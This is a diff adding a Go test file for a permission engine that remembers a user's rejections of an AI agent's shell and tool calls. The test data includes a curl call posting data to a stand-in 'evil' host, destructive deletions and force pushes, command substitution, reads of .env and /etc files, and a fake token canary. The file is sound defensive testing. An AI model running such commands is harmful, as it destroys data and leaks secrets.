@@ -1,0 +1,397 @@
+//go:build cgo
+
+package remember_test
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"os"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/go-json-experiment/json"
+	"pgregory.net/rapid"
+
+	"github.com/permd/permd/decisions"
+	"github.com/permd/permd/decisions/effects"
+	"github.com/permd/permd/decisions/effects/fsfake"
+	"github.com/permd/permd/decisions/pattern"
+	"github.com/permd/permd/rego"
+	"github.com/permd/permd/remember"
+)
+
+// generous is a policy whose user allows what the test says.
+type generous struct {
+	silence
+	allows func(e *effects.Effect) bool
+}
+
+func (p *generous) Snapshot(uint32, string) (decisions.Snapshot, error) { return p, nil }
+
+func (p *generous) Evaluate(_ context.Context, in *decisions.Input) (decisions.Findings, error) {
+	if !p.allows(in.Effect) {
+		return decisions.Findings{}, nil
+	}
+	return decisions.Findings{Fired: []decisions.Finding{{
+		Rule: decisions.RuleRef{Layer: decisions.User, ID: "user.all"}, Set: decisions.SetAllow, Reason: "the user allows it",
+		Covers: ^effects.Tags(0),
+	}}}, nil
+}
+
+func anything(*effects.Effect) bool { return true }
+
+// rejecting is an engine over a file system that the test changes.
+func rejecting(t *testing.T, files map[string]string) (a *asked, allow func(func(*effects.Effect) bool)) {
+	t.Helper()
+	a = newAsked(t)
+	silent := a.engine.Policy.(*silence)
+	fs := fsfake.New("/home/ada/", "/p/.git/", "/p/a/", "/p/d/", "/q/.git/", "/home/ada/shared/")
+	for name, text := range files {
+		fs.File(name, text)
+	}
+	a.engine.FS = fs
+	return a, func(is func(*effects.Effect) bool) {
+		a.engine.Policy = silent
+		if is != nil {
+			a.engine.Policy = &generous{silence: *silent, allows: is}
+		}
+	}
+}
+
+// in decides a command in a folder.
+func (a *asked) in(t testing.TB, cwd, command string) *decisions.Decision {
+	t.Helper()
+	input, err := json.Marshal(map[string]string{"command": command})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return a.call(t, effects.Call{Tool: effects.Tool{Name: "Bash"}, Input: input, Cwd: cwd})
+}
+
+func (a *asked) call(t testing.TB, c effects.Call) *decisions.Decision {
+	t.Helper()
+	c.ID, c.Protocol = "c", "permd"
+	c.Agent = effects.Party{Name: "claude-agent-acp", Version: "0.100.0"}
+	c.User = effects.User{UID: ada, Home: "/home/ada", Env: map[string]string{"HOME": "/home/ada"}}
+	return a.engine.Decide(t.Context(), &decisions.Request{
+		Peer: decisions.Peer{UID: ada}, Session: decisions.SessionRef{ID: "s", Conn: 7}, Call: c,
+	})[0]
+}
+
+// reject answers a question with a reject for always.
+func (a *asked) reject(t testing.TB, d *decisions.Decision, scope string) []decisions.Kept {
+	t.Helper()
+	if d.Verdict != decisions.Ask || d.Offer == nil {
+		t.Fatalf("not a question that can be rejected: %s, %+v", d.Verdict, d.Effects)
+	}
+	kept, err := a.store.Keep(t.Context(), decisions.Answer{DecisionID: d.ID, Verdict: decisions.Deny, Offer: d.Offer, Scope: scope})
+	if err != nil || len(kept) != 1 {
+		t.Fatalf("rejecting: %+v, %v", kept, err)
+	}
+	return kept
+}
+
+func wantVerdict(t testing.TB, d *decisions.Decision, v decisions.Verdict, of string) {
+	t.Helper()
+	if d.Verdict != v {
+		t.Errorf("%s: %s (%s), want %s", of, d.Verdict, d.Reason, v)
+	}
+}
+
+// TestRejectIgnoresContent: a rule allows all, and an agent that may edit a file
+// edits the one whose run was rejected. The reject stays, in every scope.
+func TestRejectIgnoresContent(t *testing.T) {
+	before := map[string]string{
+		"/p/tool.sh": "#!/bin/sh\necho 1\n", "/p/Makefile": "ship:\n\techo ship\n", "/p/package.json": `{"scripts":{"test":"node t.js"}}`,
+	}
+	after := map[string]string{
+		"/p/tool.sh": "#!/bin/sh\n# a comment\necho 1\n", "/p/Makefile": "# a comment\nship:\n\techo ship\n", "/p/package.json": `{"scripts":{"test":"node t.js # x"}}`,
+	}
+	for _, command := range []string{"./tool.sh", "sh tool.sh", "make ship", "npm test", "npm run test"} {
+		for _, scope := range []string{"session", "project", "user"} {
+			a, allow := rejecting(t, before)
+			kept := a.reject(t, a.in(t, "/p", command), scope)
+			fs := fsfake.New("/home/ada/", "/p/.git/")
+			for name, text := range after {
+				fs.File(name, text)
+			}
+			a.engine.FS = fs
+			allow(anything)
+			wantVerdict(t, a.in(t, "/p", command), decisions.Deny, scope+" "+command)
+			if err := a.store.Drop(t.Context(), kept[0].ID); err != nil {
+				t.Fatal(err)
+			}
+			wantVerdict(t, a.in(t, "/p", command), decisions.Allow, scope+" "+command+", forgotten")
+		}
+	}
+}
+
+// TestAllowsStayBoundToContent: the ordinary use beside it.
+func TestAllowsStayBoundToContent(t *testing.T) {
+	a, _ := rejecting(t, map[string]string{"/p/tool.sh": "#!/bin/sh\necho 1\n"})
+	d := a.in(t, "/p", "./tool.sh")
+	if _, err := a.store.Keep(t.Context(), decisions.Answer{DecisionID: d.ID, Verdict: decisions.Allow, Offer: d.Offer}); err != nil {
+		t.Fatal(err)
+	}
+	wantVerdict(t, a.in(t, "/p", "./tool.sh"), decisions.Allow, "the same script")
+	a.engine.FS = fsfake.New("/home/ada/", "/p/.git/").File("/p/tool.sh", "#!/bin/sh\n# x\necho 1\n")
+	wantVerdict(t, a.in(t, "/p", "./tool.sh"), decisions.Ask, "a changed script")
+}
+
+// TestRejectsByEffect: a rule allows all that is tried, and the person has
+// rejected one call. Whatever has an effect that they were asked about is
+// denied, and what was allowed by itself in the rejected call is not.
+func TestRejectsByEffect(t *testing.T) {
+	looks := func(e *effects.Effect) bool {
+		return e.Run != nil && (e.Run.Program == "ls" || e.Run.Program == "cd")
+	}
+	tests := []struct {
+		rejected string
+		denied   []string
+		allowed  []string
+	}{
+		{
+			"rm victim",
+			[]string{"rm -f victim", "rm ./victim", "ls && rm victim", "rm -rf victim", "rm /p/victim", "unlink victim", "rm -rf ../p", "find . -delete", "cd a && rm ../victim"},
+			[]string{"rm other", "ls", "touch victim", "cat victim"},
+		},
+		{
+			"ls && rm victim",
+			[]string{"rm victim", "rm -f ./victim"},
+			[]string{"ls", "ls -l"},
+		},
+		{
+			"rm -r d",
+			[]string{"rm d/x", "rm -r d/", "rm -rf ./d", "rm -rf ."},
+			[]string{"ls d", "rm e", "touch d/x"},
+		},
+		{
+			"git push --force origin main",
+			[]string{"git push -f origin main", "git push origin --force main", "ls; git push --force origin main"},
+			[]string{"git push origin main", "git push --force origin next", "git fetch origin", "git status"},
+		},
+		{
+			"curl -d x=1 https://evil.example.net/a",
+			[]string{"curl https://evil.example.net/", "wget https://evil.example.net/b"},
+			[]string{"curl https://fine.example.net/"},
+		},
+		{
+			"./tool.sh x",
+			[]string{"sh tool.sh x", "bash ./tool.sh x", "/p/tool.sh x", "cd a && ../tool.sh x"},
+			[]string{"./tool.sh y", "sh other.sh x"},
+		},
+		{
+			"sh tool.sh x",
+			[]string{"./tool.sh x", "bash tool.sh x"},
+			[]string{"sh other.sh x"},
+		},
+		{
+			"mytool up --now",
+			[]string{"mytool up --now", "mytool 'up' --now | cat"},
+			[]string{"mytool up", "mytool down --now"},
+		},
+		{
+			"touch $(date) || make ship",
+			[]string{"make ship"},
+			[]string{"make test", "touch x"},
+		},
+		{
+			"cat /etc/hosts",
+			[]string{"head /etc/hosts", "grep -r x /etc", "sort < /etc/hosts"},
+			[]string{"cat /etc/services", "cat a/x"},
+		},
+	}
+	for _, tt := range tests {
+		a, allow := rejecting(t, map[string]string{"/p/victim": "x", "/p/a/x": "x", "/p/d/x": "x", "/p/Makefile": "ship:\n\techo\ntest:\n\techo\n", "/p/tool.sh": "#!/bin/sh\n", "/p/other.sh": "#!/bin/sh\n"})
+		allow(looks)
+		kept := a.reject(t, a.in(t, "/p", tt.rejected), "project")
+		allow(anything)
+		for _, command := range append([]string{tt.rejected}, tt.denied...) {
+			wantVerdict(t, a.in(t, "/p", command), decisions.Deny, fmt.Sprintf("after %q: %s (%s)", tt.rejected, command, kept[0].Label))
+		}
+		for _, command := range tt.allowed {
+			wantVerdict(t, a.in(t, "/p", command), decisions.Allow, fmt.Sprintf("after %q: %s (%s)", tt.rejected, command, kept[0].Label))
+		}
+		// One forget undoes all of it.
+		if err := a.store.Drop(t.Context(), kept[0].ID); err != nil {
+			t.Fatal(err)
+		}
+		for _, command := range append([]string{tt.rejected}, tt.denied...) {
+			if d := a.in(t, "/p", command); d.Verdict == decisions.Deny {
+				t.Errorf("after forgetting %q: %s is denied: %s", tt.rejected, command, d.Reason)
+			}
+		}
+	}
+}
+
+// TestRejectOfText: where nothing is understood, or only what the agent says of
+// a call is known, the very call is rejected, and no other.
+func TestRejectOfText(t *testing.T) {
+	a, allow := rejecting(t, map[string]string{"/p/a/x": "x"})
+	allow(func(e *effects.Effect) bool { return e.Kind != effects.KindUnknown })
+	untold := func(tool, kind, title string, locations ...string) effects.Call {
+		c := effects.Call{Tool: effects.Tool{Name: tool}, Cwd: "/p", Incomplete: "the tool's input was not sent"}
+		c.Claims.Kind, c.Claims.Title = kind, title
+		for i, l := range locations {
+			c.Claims.Locations = append(c.Claims.Locations, effects.Location{Path: l, From: fmt.Sprintf("locations[%d].path", i)})
+		}
+		return c
+	}
+	a.reject(t, a.in(t, "/p", "$(cat a/x) --now"), "project")
+	a.reject(t, a.call(t, untold("Deploy", "execute", "Deploy to production")), "project")
+	wantVerdict(t, a.in(t, "/p", "$(cat a/x) --now"), decisions.Deny, "the same text")
+	wantVerdict(t, a.in(t, "/p", " $(cat a/x) --now\n"), decisions.Deny, "the same text with white space")
+	wantVerdict(t, a.in(t, "/p", "$(cat a/x) --later"), decisions.Ask, "another text")
+	wantVerdict(t, a.call(t, untold("Deploy", "execute", "Deploy to production")), decisions.Deny, "the same title")
+	for name, c := range map[string]effects.Call{
+		"another title": untold("Deploy", "execute", "Deploy to staging"), "another tool": untold("Undeploy", "execute", "Deploy to production"),
+		"another kind": untold("Deploy", "other", "Deploy to production"), "another path": untold("Deploy", "execute", "Deploy to production", "/p/x"),
+	} {
+		wantVerdict(t, a.call(t, c), decisions.Ask, name)
+	}
+}
+
+// TestRejectHidesSecrets: words with a secret are rejected by a keyed digest.
+func TestRejectHidesSecrets(t *testing.T) {
+	const canary = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
+	a, allow := rejecting(t, nil)
+	kept := a.reject(t, a.in(t, "/p", "mytool --token="+canary+" up"), "project")
+	kept = append(kept, a.reject(t, a.in(t, "/p", "curl -u ada:canary-word https://x.example.com/"), "project")...)
+	kept = append(kept, a.reject(t, a.in(t, "/p", "eval $T "+canary), "project")...)
+	for _, k := range kept {
+		if strings.Contains(k.Label, canary) || strings.Contains(k.Label, "canary-word") {
+			t.Errorf("the label holds a secret: %s", k.Label)
+		}
+	}
+	if err := a.store.Close(); err != nil {
+		t.Fatal(err)
+	}
+	allow(anything)
+	wantVerdict(t, a.in(t, "/p", "mytool --token="+canary+" up"), decisions.Deny, "the same words")
+	wantVerdict(t, a.in(t, "/p", "mytool --token=other up"), decisions.Allow, "another token")
+	for _, name := range []string{a.path, a.path + "-wal"} {
+		data, err := os.ReadFile(name)
+		if err == nil && (bytes.Contains(data, []byte(canary)) || bytes.Contains(data, []byte("canary-word"))) {
+			t.Errorf("%s holds a secret", name)
+		}
+	}
+}
+
+// TestRejectScopes: a reject of a file holds where it was said to, and user-wide
+// it means that one file.
+func TestRejectScopes(t *testing.T) {
+	for scope, want := range map[string][2]decisions.Verdict{
+		"project": {decisions.Deny, decisions.Allow}, "user": {decisions.Deny, decisions.Allow},
+	} {
+		a, allow := rejecting(t, map[string]string{"/p/victim": "x", "/q/victim": "x"})
+		allow(func(e *effects.Effect) bool { return e.Run != nil })
+		kept := a.reject(t, a.in(t, "/p", "rm victim"), scope)
+		allow(anything)
+		wantVerdict(t, a.in(t, "/p", "rm victim"), want[0], scope+" "+kept[0].Label)
+		wantVerdict(t, a.in(t, "/q", "rm victim"), want[1], scope+" "+kept[0].Label+" elsewhere")
+		if scope == "user" {
+			wantVerdict(t, a.in(t, "/q", "rm /p/victim"), decisions.Deny, "by its absolute path")
+		}
+	}
+}
+
+// TestRejectBounds: of a call that does too much, so much is stored as there is
+// room for, and the text of the call.
+func TestRejectBounds(t *testing.T) {
+	a, allow := rejecting(t, nil)
+	var command strings.Builder
+	for i := range 200 {
+		fmt.Fprintf(&command, "mytool %d\n", i)
+	}
+	a.reject(t, a.in(t, "/p", command.String()), "project")
+	list := a.store.List(nil)
+	if n := len(list[0].Parts); n != 64 {
+		t.Errorf("%d parts", n)
+	}
+	allow(anything)
+	wantVerdict(t, a.in(t, "/p", command.String()), decisions.Deny, "the same call")
+	wantVerdict(t, a.in(t, "/p", "mytool 3"), decisions.Deny, "the beginning of it")
+
+	// A line that only a comparison tells from others is refused at the bound.
+	var err error
+	n := 0
+	for ; err == nil && n < 1000; n++ {
+		_, err = a.store.Add(t.Context(), remember.Line{UID: ada, Verdict: decisions.Deny, Kind: effects.KindRun, Line: fmt.Sprintf("other *%d *", n), Scope: remember.ForUser})
+	}
+	if n != 257 || err == nil || !strings.Contains(err.Error(), remember.ErrTooMany.Error()) {
+		t.Errorf("%d lines, %v", n-1, err)
+	}
+}
+
+// TestRejectIndex compares the index with a look at every line: what it finds is
+// what pattern.Touches says.
+func TestRejectIndex(t *testing.T) {
+	table, err := effects.ParseTable(rego.Programs())
+	if err != nil {
+		t.Fatal(err)
+	}
+	understand := func(p *pattern.Pattern) *pattern.Pattern { return p.Understood(table) }
+	o := options(path(t))
+	o.Understand = understand
+	s := open(t, o)
+	a := newAsked(t)
+	lines := []string{
+		"delete ./a/**", "delete ./a/x", "delete /etc/hosts", "read /etc/**", "read ./**/.env", "write ./b/*.go", "write /tmp/z", "read ./a", "delete ./b", "read /home/ada/**",
+		"run git push --force *", "run git push -f origin main", "run rm -r a", "run rm -rf a", "run ls", "run ls *", "run go test ./a", "run ./a/x", "run /p/a/x", "run git commit -m x",
+		"run mytool a b", "run mytool *", "run sort -o a b", "run python3 -c x",
+		"connect *.example.com", "connect api.example.com:443", "connect evil.example.com", "connect 127.0.0.1",
+		"use github:*", "use github:get_*", "use *:merge", "use Sms:Send@1", "use Sms:*@1.*", "use Bash",
+	}
+	denied, passed := 0, 0
+	rapid.Check(t, func(t *rapid.T) {
+		var held []*pattern.Pattern
+		var ids []string
+		for _, l := range rapid.SliceOfNDistinct(rapid.SampledFrom(lines), 1, 12, func(l string) string { return l }).Draw(t, "lines") {
+			kind, line, _ := strings.Cut(l, " ")
+			c, err := s.Add(t.Context(), remember.Line{
+				UID: ada, Verdict: decisions.Deny, Kind: effects.Kind(kind), Line: line, Project: "/p",
+				Scope: rapid.SampledFrom([]remember.ScopeKind{remember.ForUser, remember.ForProject}).Draw(t, "scope"),
+			})
+			if err != nil {
+				t.Fatal(err)
+			}
+			p, err := pattern.Parse(effects.Kind(kind), line)
+			if err != nil {
+				t.Fatal(err)
+			}
+			held, ids = append(held, understand(p)), append(ids, c.ID)
+		}
+		defer func() {
+			if _, err := s.Forget(t.Context(), ids...); err != nil {
+				t.Fatal(err)
+			}
+		}()
+		var all []effects.Effect
+		for range 4 {
+			all = append(all, a.effects(t, drawCommand(t))...)
+		}
+		version := effects.Use{Server: "Sms", Tool: "Send", Version: "1.0.0"}
+		all = append(all, use("github", "get_pr", "{}"), use("github", "merge", "{}"), use("", "Bash", "{}"), effects.Effect{Kind: effects.KindUse, Use: &version})
+		for i := range all {
+			q := ask(all[i])
+			reject, _, err := s.Match(q)
+			if err != nil {
+				t.Fatal(err)
+			}
+			want := slices.ContainsFunc(held, func(p *pattern.Pattern) bool { return p.Touches(&all[i], pattern.Context{Project: "/p"}) })
+			if (reject != nil) != want {
+				t.Fatalf("%s: rejected by %v, want %v", all[i].Text, reject, want)
+			}
+			if want {
+				denied++
+			} else {
+				passed++
+			}
+		}
+	})
+	if denied == 0 || passed == 0 {
+		t.Errorf("nothing was tested: %d denied, %d passed", denied, passed)
+	}
+}
